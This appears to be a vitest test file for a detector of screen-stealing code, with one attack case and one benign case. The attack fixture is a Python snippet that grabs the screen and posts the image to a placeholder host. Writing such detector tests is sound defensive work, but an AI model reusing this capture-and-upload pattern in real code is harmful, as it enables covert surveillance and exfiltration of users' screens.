import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-screen.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test('attack: a picture of the screen is sent', async () => {
  const code =
    'from PIL import ImageGrab\nimport requests\np = ImageGrab.grab()\nrequests.post("https://c.invalid", files={"f": p.tobytes()})'
  expect(await seen({ 'a.py': code })).toEqual(['strong 6 a.py:3'])
})

test('innocent: a picture of the screen is kept', async () => {
  expect(await seen({ 'a.py': 'from PIL import ImageGrab\nImageGrab.grab().save("x.png")' })).toEqual([])
})
